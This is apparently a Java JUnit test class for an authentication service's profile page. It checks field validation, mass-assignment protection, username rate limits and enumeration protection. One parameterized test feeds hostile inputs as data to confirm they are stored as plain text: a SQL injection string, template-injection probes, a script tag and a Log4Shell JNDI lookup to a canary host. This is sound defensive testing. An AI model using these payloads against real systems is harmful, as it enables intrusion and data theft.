package dev.latchkey.auth.profile;

import static org.assertj.core.api.Assertions.assertThat;

import dev.latchkey.auth.account.Profile;
import dev.latchkey.auth.account.Profiles;
import dev.latchkey.auth.testing.Browser;
import dev.latchkey.auth.testing.Story;
import dev.latchkey.auth.testing.TestAccount;
import java.util.HashMap;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.jdbc.core.simple.JdbcClient;

class ProfilePageTests {

    private final Story story = new Story();
    private final JdbcClient database = story.server().database();
    private final TestAccount account = story.newAccounts().withPassword();
    private final UUID id = story.newAccounts().idOf(account);
    private final Browser browser = story.browserOf(account);

    @Test
    void keepsWhatPeopleSayOfThemselves() {
        assertThat(save(Map.ofEntries(
                        Map.entry("name", "Zoë Example"),
                        Map.entry("given_name", "Zoë"),
                        Map.entry("middle_name", "Ada"),
                        Map.entry("family_name", "Example"),
                        Map.entry("nickname", "zo"),
                        Map.entry("birthdate", "1990-02-28"),
                        Map.entry("gender", "female"),
                        Map.entry("profile", "https://people.example.test/zoe"),
                        Map.entry("picture", "https://people.example.test/zoe.png"),
                        Map.entry("website", "https://zoe.example.test/"),
                        Map.entry("zoneinfo", "Europe/Berlin"),
                        Map.entry("locale", "de-AT"),
                        Map.entry("phone_number", "+49 (30) 123-4567"),
                        Map.entry("street_address", "Hauptstraße 1\r\nHinterhaus"),
                        Map.entry("postal_code", "10115"),
                        Map.entry("locality", "Berlin"),
                        Map.entry("region", "Berlin"),
                        Map.entry("country", "Germany"))))
                .isEqualTo(200);
        assertThat(browser.page().body()).contains("Saved.", "Zoë Example");
        assertThat(story.server().bean(Profiles.class).of(id))
                .isEqualTo(new Profile(
                        "Zoë",
                        "Ada",
                        "Example",
                        "zo",
                        "female",
                        "https://people.example.test/zoe",
                        "https://people.example.test/zoe.png",
                        "https://zoe.example.test/",
                        "Europe/Berlin",
                        "de-AT",
                        "+49301234567",
                        new Profile.Address("Hauptstraße 1\r\nHinterhaus", "Berlin", "Berlin", "10115", "Germany")));
        assertThat(browser.open("/account/activity").page().body()).contains("Europe/Berlin");
        assertThat(save(Map.of("nickname", ""))).isEqualTo(200);
        assertThat(story.server().bean(Profiles.class).of(id)).isEqualTo(Profile.EMPTY);
    }

    /** LG-36: there is no field for what people may not decide about themselves. */
    @Test
    void changesNothingThatIsNotOnTheForm() {
        Map<String, Object> before = row();
        Map<String, String> fields = new HashMap<>(Map.of(
                "role", "ADMIN",
                "roles", "ADMIN",
                "roles[0]", "ADMIN",
                "emailVerified", "false",
                "email_verified", "false",
                "email", "root@example.test",
                "enabled", "false",
                "id", UUID.randomUUID().toString(),
                "password", "another password for me",
                "passwordHash", "{noop}x"));
        fields.put("accountId", UUID.randomUUID().toString());
        fields.put("version", "99");
        assertThat(save(fields)).isEqualTo(200);
        Map<String, Object> after = row();
        for (String column : new String[] {"id", "email", "email_verified", "enabled", "password_hash", "roles"}) {
            assertThat(after.get(column)).as(column).isEqualTo(before.get(column));
        }
    }

    @ParameterizedTest
    @CsvSource({
        "profile, javascript:alert(1)",
        "picture, data:image/png",
        "website, javascript:alert(1)",
        "website, https://user:secret@example.test/",
        "website, //example.test",
        "zoneinfo, Mars/Olympus",
        "locale, not a language",
        "phone_number, 030 1234567",
        "phone_number, +491234567890123456",
        "birthdate, yesterday",
        "birthdate, 1850-01-01",
        "birthdate, 2999-01-01",
        "birthdate, 2023-02-30",
        "username, root@example.test",
        "username, а-b",
        "name, ''",
        "given_name, a\u202eb",
        "country, a\u0001b"
    })
    void refusesWhatCannotBeAndKeepsNothingOfIt(String field, String value) {
        Map<String, Object> before = row();
        assertThat(save(Map.of(field, value, "nickname", "not kept"))).isEqualTo(422);
        assertThat(browser.page().body()).contains("id=\"" + field + "-error\"", "aria-invalid=\"true\"");
        assertThat(row()).isEqualTo(before);
        assertThat(story.server().bean(Profiles.class).of(id)).isEqualTo(Profile.EMPTY);
    }

    /** RB-06, RB-11, RB-12. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "'; drop table account; --",
                "${7*7} #{7*7} __${7*7}__::.x",
                "<script>alert(1)</script>",
                "${jndi:ldap://canary.test/a}",
                "Z͑͐̽a̴lgo"
            })
    void takesHostileTextForText(String hostile) {
        assertThat(save(Map.of("nickname", hostile))).isEqualTo(200);
        assertThat(story.server().bean(Profiles.class).of(id).nickname()).isEqualTo(hostile);
        assertThat(browser.page().body()).doesNotContain("<script>alert", ">49<");
        assertThat(save(Map.of("nickname", hostile.repeat(60)))).isEqualTo(422);
    }

    @Test
    void letsPeopleChangeTheirUserNameOnceInAWhile() {
        String renamed = account.username() + "-new";
        assertThat(save(Map.of("username", renamed))).isEqualTo(200);
        assertThat(row()).containsEntry("username", renamed);
        assertThat(save(Map.of("username", renamed + "er"))).isEqualTo(429);
        assertThat(browser.page().body()).contains("can be changed again in 30 d");
        assertThat(row()).containsEntry("username", renamed);
        database.sql(
                        "update account_profile set username_changed_at = now() - interval '31 days' where account_id = :id")
                .param("id", id)
                .update();
        assertThat(save(Map.of("username", renamed + "er"))).isEqualTo(200);
    }

    @Test
    void doesNotLetAnybodyFindOutManyUserNames() {
        for (int i = 0; i < 10; i++) {
            assertThat(save(Map.of("username", i % 2 == 0 ? "ALICE" : "bob"))).isEqualTo(409);
        }
        assertThat(browser.page().body()).contains("Somebody else has this user name.");
        assertThat(save(Map.of("username", "carol"))).isEqualTo(429);
        assertThat(save(Map.of("username", account.username()))).isEqualTo(200);
    }

    private int save(Map<String, String> changes) {
        browser.open("/account/profile");
        Map<String, String> fields = new HashMap<>(Map.of("username", current("username"), "name", current("name")));
        fields.putAll(changes);
        return browser.submit("/account/profile", fields).page().statusCode();
    }

    private String current(String column) {
        return String.valueOf(row().get(column));
    }

    private Map<String, Object> row() {
        return database.sql("""
                        select id, username, email, email_verified, name, enabled, password_hash,
                               (select string_agg(role, ' ') from account_role r where r.account_id = a.id) as roles
                        from account a where id = :id
                        """).param("id", id).query().singleRow();
    }
}
